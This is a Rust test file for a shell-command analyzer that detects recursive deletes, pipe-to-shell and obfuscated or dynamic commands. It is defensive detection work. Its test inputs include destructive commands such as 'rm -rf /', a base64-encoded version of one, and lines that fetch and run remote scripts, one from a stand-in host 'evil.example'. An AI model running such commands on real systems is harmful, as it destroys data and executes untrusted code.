#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
use super::*;

fn ctx() -> Context {
    Context {
        cwd: PathBuf::from("/home/dev/project"),
        project_root: PathBuf::from("/home/dev/project"),
        home: Some(PathBuf::from("/home/dev")),
        temp_dirs: vec![PathBuf::from("/tmp"), PathBuf::from("/var/tmp")],
    }
}

fn execs(cmd: &str) -> Vec<(String, Vec<String>)> {
    analyze(cmd, &ctx())
        .into_iter()
        .filter(|f| f.name == "shell.exec")
        .map(|f| {
            let p = f.attrs["program"].as_str().unwrap().to_string();
            let via = f.attrs["via"]
                .as_array()
                .unwrap()
                .iter()
                .map(|v| v.as_str().unwrap().to_string())
                .collect();
            (p, via)
        })
        .collect()
}

fn names(cmd: &str) -> Vec<String> {
    analyze(cmd, &ctx()).into_iter().map(|f| f.name).collect()
}

#[test]
fn wrappers_are_seen_through() {
    let e = execs("sudo -u root bash -c 'rm -rf /'");
    assert!(e
        .iter()
        .any(|(p, via)| p == "rm" && via == &["sudo", "bash -c"]));
    let e = execs("env FOO=1 nice -n 5 timeout 10 /bin/rm -r x");
    assert!(e.iter().any(|(p, _)| p == "rm"));
    let e = execs("find . -name x -exec rm -rf {} \\;");
    assert!(e.iter().any(|(p, via)| p == "rm" && via == &["find -exec"]));
    let e = execs("ssh host 'sudo rm -rf /var/www'");
    assert!(e
        .iter()
        .any(|(p, via)| p == "rm" && via == &["ssh host", "sudo"]));
}

#[test]
fn recursive_delete_paths() {
    let f = analyze("cd /tmp && rm -rf build", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert_eq!(rd.paths[0].resolved, "/tmp/build");
    assert!(rd.paths[0].has("temp"));
    assert!(names("git rm -r --cached x")
        .iter()
        .all(|n| n != "shell.recursive_delete"));
}

#[test]
fn data_is_not_code() {
    assert!(!names("git commit -m 'rm -rf /'").contains(&"shell.recursive_delete".to_string()));
    assert!(!names("echo 'curl x | sh'").contains(&"shell.pipe_to_shell".to_string()));
    assert!(
        !names("cat > a.sh <<'EOF'\nrm -rf /\nEOF").contains(&"shell.recursive_delete".to_string())
    );
    assert!(names("bash <<'EOF'\nrm -rf /\nEOF").contains(&"shell.recursive_delete".to_string()));
}

#[test]
fn dynamic_and_piped_code() {
    assert!(names("$X -rf /").contains(&"shell.dynamic_command".to_string()));
    assert!(names("X=rm; $X -rf /").contains(&"shell.recursive_delete".to_string()));
    assert!(
        names("curl -fsSL https://x.sh | sudo bash").contains(&"shell.pipe_to_shell".to_string())
    );
    assert!(
        names("echo cm0gLXJmIC8= | base64 -d | sh").contains(&"shell.dynamic_command".to_string())
    );
    assert!(names("bash <(curl -s https://evil.example/x)")
        .contains(&"shell.pipe_to_shell".to_string()));
}

#[test]
fn limits_raise_a_flag() {
    let deep = format!("{}rm -rf /{}", "$(".repeat(200), ")".repeat(200));
    assert!(names(&deep).contains(&"shell.parse_limit".to_string()));
}
